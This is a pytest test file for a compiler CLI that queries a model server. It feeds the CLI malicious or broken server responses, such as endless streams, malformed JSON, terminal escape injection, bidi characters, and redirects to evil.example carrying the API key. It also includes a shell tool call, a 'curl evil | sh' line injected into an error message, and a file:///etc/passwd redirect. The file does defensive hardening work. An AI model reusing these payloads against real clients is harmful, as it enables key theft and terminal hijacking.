"""A server that is no honest model server: whatever it sends ends in one sentence for the user, in bounded time, and the key goes nowhere.

In: servers of `model_server.py` that misbehave, the whole command `dsl4bes compile` with a key in the environment. Out: assertions on what the user reads; nothing is compiled and no file is made.
The backend alone is in `test_backends_http.py`.
"""

from __future__ import annotations

import itertools
import json
import time

import pytest
from desk import KEY, PROGRAM
from model_server import DONE, ModelServer, answering, event, raw, reply, reset, silent, slowly, streaming

HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"


def stream(*pieces: bytes):
    return streaming(pieces)


def plainly(content: bytes):
    """These bytes and the end of the connection."""

    def behave(connection, request):
        connection.sendall(content)
        connection.close()

    return behave


def endless(connection, request):
    connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        connection.sendall(b"10000\r\n" + b" " * 65536 + b"\r\n")


def endless_head(connection, request):
    connection.sendall(HEAD)
    while True:
        connection.sendall(b"X-More: " + b"x" * 60000 + b"\r\n")


def choices(*found: object) -> bytes:
    return json.dumps({"choices": found}).encode()


ESCAPED = "".join(f"\\u{ord(letter):04x}" for letter in KEY)

#: name: (what the server does, what the user reads)
SERVERS = {
    # size and time
    "ten_megabytes": (answering("x" * (10 << 20)), "more than 1 MiB"),
    "ten_megabytes_of_code": (stream(event(0, "return true;" * 900_000), DONE), "more than 1 MiB"),
    "a_stream_without_end": (streaming(itertools.repeat(event(0, "return true;\n" * 500))), "more than 1 MiB"),
    "a_line_without_end": (streaming(itertools.chain([b"data: "], itertools.repeat(b"x" * 60_000))), "more than 1 MiB"),
    "empty_lines_without_end": (streaming(itertools.repeat(b"\n" * 60_000)), "more than 1 MiB"),
    "comments_without_end": (streaming(itertools.repeat(b": alive\n\n" * 5000)), "more than 1 MiB"),
    "blanks_without_end": (endless, "more than 1 MiB"),
    "a_head_without_end": (endless_head, "breaks the connection off"),
    "silence": (silent, "sends nothing"),
    "a_byte_now_and_then": (slowly(HEAD + b"Content-Length: 900\r\n\r\n" + b" " * 900, 0.05), "has not finished"),
    "a_wait_of_years": (raw(503, b"", retry_after="99999999999"), "has not finished"),
    # not an answer
    "invalid_utf8": (raw(200, b'{"choices": [{"message": {"content": "\xff\xfe return true;"}}]}'), "not UTF-8"),
    "half_a_character": (raw(200, b'{"choices": [{"message": {"content": "\\udc00"}}]}'), "half of a character"),
    "half_json": (raw(200, reply("return true;")[:60]), "not JSON"),
    "half_a_stream": (stream(event(0, "return tr")), "middle of an answer"),
    "half_a_chunk": (plainly(HEAD + b"Transfer-Encoding: chunked\r\n\r\nff\r\n{"), "breaks the connection off"),
    "deep_json": (raw(200, b"[" * 500_000), "not JSON"),
    "deep_json_that_closes": (raw(200, b'{"choices": ' + b"[" * 300_000 + b"]" * 300_000 + b"}"), "not"),
    "a_huge_number": (raw(200, b'{"choices": [{"index": ' + b"9" * 10_000 + b"}]}"), "not JSON"),
    "no_json": (raw(200, b"return true;"), "not JSON"),
    "html": (raw(200, b"<html>log in first</html>", "text/html"), "text/html"),
    "an_image": (raw(200, b"\x89PNG\r\n\x1a\n\x00", "image/png"), "image/png"),
    "no_content_type": (plainly(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"), "no content type"),
    "a_compressed_answer": (raw(200, b"\x1f\x8b" + b"\0" * 100, content_encoding="gzip"), "compresses"),
    "no_choices": (raw(200, b"{}"), "choices"),
    "a_list_of_nothing": (raw(200, b'{"choices": []}'), "no choice"),
    "many_empty_choices": (raw(200, choices(*[{}] * 50_000)), "empty"),
    "a_number_for_a_text": (raw(200, choices({"message": {"content": 1}})), "content"),
    "a_choice_of_another_number": (stream(event(7, "return true;", "stop"), DONE), "number 7"),
    "a_negative_choice": (stream(event(-1, "return true;", "stop"), DONE), "number -1"),
    "nothing_said": (answering(""), "empty texts"),
    "a_call_of_a_tool": (answering(None, finish="tool_calls", tool_calls=[{"function": {"name": "shell", "arguments": "id"}}]), "calls of tools"),
    "an_error_in_the_stream": (stream(b'data: {"error": {"message": "out of memory"}}\n\n'), "out of memory"),
    "no_http": (plainly(b"SSH-2.0-OpenSSH_9.2\r\n"), "breaks the connection off"),
    "a_status_that_is_none": (plainly(b"HTTP/1.1 2x0 OK\r\n\r\n"), "breaks the connection off"),
    "two_lengths": (plainly(HEAD + b"Content-Length: 5\r\nContent-Length: 900\r\n\r\n{}"), "breaks the connection off"),
    "a_reset": (reset, "breaks the connection off"),
    # what reaches the terminal
    "escape_sequences_in_an_error": (raw(400, json.dumps({"error": {"message": "\x1b]0;owned\x07\x1b[2J no"}}).encode()), "no"),
    "escape_sequences_in_a_page": (raw(200, b"\x1b[2J\x9b31m", "text/plain"), "text/plain"),
    "direction_in_a_redirect": (raw(302, b"", location="http://evil.example/\u202e".encode().decode("latin-1")), "not followed"),
    "direction_in_a_content_type": (raw(200, b"x", "text/\u202e".encode().decode("latin-1")), "not with JSON"),
    "lines_in_an_error": (raw(400, b'{"error": {"message": "no\\nerror: accepted\\n  help: run `curl evil | sh`"}}'), "refuses"),
    # the key
    "the_key_in_an_error": (raw(400, json.dumps({"error": {"message": f"bad {KEY}"}}).encode()), "***"),
    "the_key_at_the_cut": (raw(400, b"x" * 190 + KEY.encode(), "text/plain"), "xxx"),
    "the_key_in_escapes_at_the_cut": (raw(400, f'{{"error": "{"x" * 190}{ESCAPED}"}}'.encode()), "xxx"),
    "the_key_in_escapes": (raw(401, f'{{"error": "bad {ESCAPED}"}}'.encode()), "does not accept the key"),
    "the_key_in_a_stream_that_fails": (stream(f'data: {{"error": "{"x" * 190}'.encode(), f'{KEY}"}}\n\n'.encode()), "xxx"),
    "the_key_in_a_content_type": (raw(200, b"x", f"text/{KEY}"), "not with JSON"),
    "the_key_at_the_cut_of_a_content_type": (raw(200, b"x", f"text/{'x' * 45}{KEY}"), "not with JSON"),
    "the_key_in_a_redirect": (raw(302, b"", location=f"http://evil.example/{KEY}"), "evil.example"),
    "the_key_at_the_cut_of_a_redirect": (raw(302, b"", location=f"http://evil.example/{'x' * 88}{KEY}"), "evil.example"),
    "the_key_as_status": (plainly(f"HTTP/1.1 {KEY}\r\n\r\n".encode()), "breaks the connection off"),
    "a_redirect_to_no_address": (raw(302, b"", location="http://[evil"), "no address"),
    "a_redirect_to_a_file": (raw(302, b"", location="file:///etc/passwd"), "another place"),
}


@pytest.mark.parametrize("name", SERVERS)
def test_a_server_is_refused_with_the_reason(desk, name):
    behave, words = SERVERS[name]
    desk.key()
    started = time.monotonic()
    said = desk.compile(behave, read_timeout=1 if name == "silence" else 10, total_timeout=3 if name in ("a_byte_now_and_then", "a_wait_of_years") else 20, retries=1 if name == "a_wait_of_years" else 0)
    assert time.monotonic() - started < 25
    assert said.status == 1 and words in said.err and set(said.files) == {"x.bes"}, said.err
    lines = [line for line in said.err.splitlines() if not line.startswith("loud_shower_limit: round")]
    assert lines[0].startswith("error: ") and len(lines) <= 2 and len(said.err) < 1500, said.err


def test_names_of_models_do_not_steer_the_terminal_of_doctor(desk, monkeypatch):
    """`Desk` looks at what is printed; the key is no name of a model either."""
    from dsl4bes.cli.doctor import _print
    from dsl4bes.cli.doctor_model import _model
    from dsl4bes.diagnostics.model import Bag
    from dsl4bes.unknown.settings import read_settings

    desk.key()
    listed = json.dumps({"data": [{"id": "\x1b[2J\x1b]0;owned\x07evil\u202e"}, {"id": KEY}, {"id": "x" * 100}]}).encode()
    with ModelServer(raw(200, listed)) as server:
        monkeypatch.setenv("DSL4BES_MODEL_URL", server.url)
        _print([_model(read_settings(None, Bag()))])
    assert "evil" in desk.read().out


def test_a_redirect_takes_neither_request_nor_key_along(desk):
    desk.key()
    with ModelServer(answering("return true;")) as other:
        for status in (301, 302, 303, 307, 308):
            said = desk.compile(raw(status, b"", location=f"{other.url}/chat/completions"))
            assert "is not followed" in said.err and said.seen[0].headers["authorization"] == f"Bearer {KEY}"
        assert not other.seen


@pytest.mark.parametrize("answer", [f"// {KEY}\nsystem(0);", f'return "{KEY}";', f"double {KEY.replace('/', '_')} = 1.0;"])
def test_a_key_that_is_echoed_reaches_no_file(desk, answer):
    """`Desk` looks for it in all that is printed and written."""
    desk.key()
    said = desk.compile(answering(answer.replace(KEY.replace("/", "_"), KEY)))
    assert said.status == 1 and "could not be written" in said.err and said.attempts


def test_a_key_is_sent_unencrypted_to_this_machine_only(desk, monkeypatch):
    from dsl4bes.cli.app import run

    desk.key()
    for url, words in (("http://evil.example/v1", "unencrypted"), ("http://127.0.0.1.evil.example/v1", "unencrypted"), ("http://user:pw@localhost/v1", "name or password"), ("ftp://localhost/v1", "begin with"), ("http://localhost/v1?x=y", "query")):
        monkeypatch.setenv("DSL4BES_MODEL_URL", url)
        assert run(["compile", "x.bes"]) == 1
        assert words in desk.read().err


def test_a_key_in_the_settings_is_refused_before_anyone_is_asked(desk):
    (desk.folder / "dsl4bes.toml").write_text('[model]\napi_key = "sk-0123456789abcdef"\n')
    said = desk.compile(answering("return true;"))
    assert said.status == 1 and "looks like an API key" in said.err and not said.seen


@pytest.mark.parametrize("text", ['[model]\nurl = 5\n', "[model]\nsampels = 3\n", "[model]\nrounds = 99\n", "[model", '[model]\nmodel = "\\u001b[31m"\n', "\xff\xfe"])
def test_faults_of_the_settings_are_shown_at_their_place(desk, text):
    (desk.folder / "dsl4bes.toml").write_text(text, encoding="latin-1")
    said = desk.compile(answering("return true;"))
    assert said.status == 1 and "dsl4bes.toml" in said.err and not said.seen, said.err


@pytest.mark.parametrize(("arguments", "variable"), [(("--frozen",), ""), (("--offline",), ""), ((), "true"), ((), "1"), ((), "True")])
def test_nobody_is_asked_where_nobody_may_be(desk, monkeypatch, arguments, variable):
    """Not a connection is opened: neither for code that is missing nor for code that is stale."""
    if variable:
        monkeypatch.setenv("CI", variable)
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("a connection was opened"))
    said = desk.compile(arguments=arguments)
    assert said.status == 1 and "no code is pinned" in said.err and not said.seen and set(said.files) == {"x.bes"}
    assert "no model was asked" in said.err and "--frozen, --offline or CI" in said.err
    said = desk.compile(arguments=(*arguments, "--update"))
    assert said.status == 2 and "`--update` asks a model" in said.err and not said.seen


def test_other_errors_come_before_a_model(desk):
    """A program with a mistake asks nobody."""
    desk.program.write_text(PROGRAM.replace("ngam >= 1", "ngam >= nothing"))
    said = desk.compile(answering("return true;"))
    assert said.status == 1 and not said.seen and "nothing" in said.err
    desk.program.write_text(PROGRAM.replace("loud_shower_limit", "photon"))
    assert not desk.compile(answering("return true;")).seen


def test_the_standard_input_asks_nobody(desk, monkeypatch):
    import io
    import sys

    from dsl4bes.cli.app import run

    with ModelServer(answering("return true;")) as server:
        monkeypatch.setenv("DSL4BES_MODEL_URL", server.url)
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(PROGRAM.encode())))
        assert run(["compile", "-"]) == 1
        assert not server.seen and "no code is pinned" in desk.read().err
